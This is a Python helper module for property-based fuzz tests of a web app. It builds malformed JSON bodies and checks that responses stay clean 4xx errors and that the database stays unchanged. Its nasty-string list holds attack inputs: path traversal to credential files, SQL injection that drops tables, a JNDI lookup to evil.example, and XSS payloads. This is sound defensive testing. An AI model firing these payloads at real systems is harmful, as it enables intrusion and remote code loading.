"""Hostile input for the property tests: junk JSON, odd strings, and checks that an
answer is a clean 2xx or a SPEC-shaped 4xx that changed nothing."""
from __future__ import annotations

import json

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from sqlalchemy import select

from exhibition.extensions import db

# Bounded so the whole suite stays quick; each property runs this many examples.
PROPERTY = settings(max_examples=60, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow, HealthCheck.data_too_large])

# For properties repeated over many routes or events.
PROPERTY_PER_ROUTE = settings(PROPERTY, max_examples=25)

SPEC_CODES = {400: {"invalid"}, 401: {"unauthenticated"}, 403: {"forbidden", "csrf", "muted"},
              404: {"not_found"}, 405: {"invalid"}, 409: {"conflict"}, 413: {"too_large"},
              429: {"rate_limited"}}

NASTY_STRINGS = [
    "", " ", "\t\n", "\x00", "a\x00b", "\ud800", "x\udfffy", "\u202egnp.exe", "\u200b", "\ufeff",
    "e\u0301" * 300, "😀" * 700, "ß" * 100, "İ", "\U0010ffff", "Ω≈ç√∫", "null", "None", "true", "0",
    "-1", "1e309", "NaN", "../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "..\\..\\windows\\win.ini",
    "' OR '1'='1", "1; DROP TABLE users; --", "\" OR 1=1 --", "%00", "%s%s%s%n", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "javascript:alert(1)", "x" * 5000, "y" * 100_000, "lobby", "booth:", "dm:1:2", "a@b.c",
]

hostile_text = st.one_of(
    st.sampled_from(NASTY_STRINGS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=20),
)

scalars = st.one_of(
    st.none(), st.booleans(),
    st.integers(min_value=-(2 ** 70), max_value=2 ** 70),
    st.sampled_from([0, -1, 1, 2 ** 31, 2 ** 63, -(2 ** 63) - 1, 10 ** 30]),
    st.floats(allow_nan=True, allow_infinity=True),
    hostile_text,
)


def junk(keys=()) -> st.SearchStrategy:
    """Any JSON value, nested a few levels; dictionary keys partly drawn from ``keys``."""
    key = st.one_of(st.sampled_from(list(keys) or ["x"]), st.text(max_size=8))
    return st.recursive(scalars, lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(key, inner, max_size=4)), max_leaves=12)


def objects(plausible: dict[str, st.SearchStrategy], extra_keys=()) -> st.SearchStrategy:
    """A JSON object: each known field missing, plausible (often valid) or junk, plus
    sometimes junk keys. Mostly-valid objects reach the deeper checks."""
    keys = list(plausible) + list(extra_keys)
    fields = {k: st.one_of(plausible.get(k, st.nothing()), plausible.get(k, st.nothing()),
                           junk(keys)) for k in keys}
    return st.builds(lambda known, extra: {**extra, **known},
                     st.fixed_dictionaries({}, optional=fields),
                     st.dictionaries(st.text(max_size=8), junk(keys), max_size=2))


def mutations(valid: dict, extra_keys=()) -> st.SearchStrategy:
    """A valid object with one field (or a new key) replaced by hostile junk or a nasty string."""
    keys = list(valid) + list(extra_keys)
    return st.builds(lambda key, value: {**valid, key: value},
                     st.sampled_from(keys), st.one_of(st.sampled_from(NASTY_STRINGS), junk(keys)))


def bodies(plausible: dict[str, st.SearchStrategy], extra_keys=(), valid: dict | None = None) -> st.SearchStrategy:
    """What arrives as a request body: mostly objects, sometimes another JSON value or
    bytes that are not JSON at all. Returns (raw body, content type)."""
    as_json = lambda value: (json.dumps(value, allow_nan=True), "application/json")  # noqa: E731
    good = mutations(valid, extra_keys) if valid else objects(plausible, extra_keys)
    return st.one_of(
        objects(plausible, extra_keys).map(as_json),
        good.map(as_json), good.map(as_json),
        junk(plausible).map(as_json),
        st.binary(max_size=64).map(lambda b: (b, "application/json")),
        st.sampled_from([("{", "application/json"), ("", "application/json"), ("[]", "application/json"),
                         ('{"a":' * 2000 + "1" + "}" * 2000, "application/json"),
                         ("email=a&password=b", "application/x-www-form-urlencoded"),
                         ('{"email": "a"}', "text/plain")]),
    )


def assert_clean(response, where: str = "") -> None:
    """2xx, or a 4xx in the SPEC's error shape; never a 5xx."""
    status = response.status_code
    assert status < 500, f"{where}: {status} {response.get_data(as_text=True)[:300]}"
    if status >= 400:
        body = response.get_json(silent=True)
        assert isinstance(body, dict) and set(body) == {"error"}, f"{where}: {status} {body!r}"
        error = body["error"]
        assert isinstance(error, dict) and set(error) == {"code", "message"}, f"{where}: {error!r}"
        assert error["code"] in SPEC_CODES.get(status, {error["code"]}), f"{where}: {status} {error!r}"
        assert isinstance(error["message"], str) and error["message"], where


def snapshot(app, skip: tuple[str, ...] = ("login_failures",)) -> dict:
    """Every row of every table (except ``skip``), to compare before and after."""
    with app.app_context():
        out = {}
        for table in db.metadata.sorted_tables:
            if table.name in skip:
                continue
            rows = db.session.execute(select(table)).all()
            out[table.name] = sorted(tuple(map(repr, row)) for row in rows)
        db.session.remove()
        return out


def assert_unchanged(before: dict, after: dict, where: str = "") -> None:
    for name in before:
        assert before[name] == after.get(name), f"{where}: table {name} changed on a refused request"
